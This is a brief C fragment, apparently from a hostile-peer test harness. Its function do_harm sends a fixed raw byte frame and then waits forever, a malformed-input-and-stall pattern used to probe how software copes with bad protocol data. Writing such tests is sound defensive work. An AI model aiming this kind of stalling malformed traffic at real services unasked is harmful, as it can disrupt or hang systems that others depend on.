#include "hostile.h"

static uint32_t do_harm(void) {
  const unsigned char frame[] = {0, 0, 0, 4, 0x08, 2, 0x30, 5};
  send_raw(frame, sizeof frame);
  wait_for_ever();
  return 0;
}
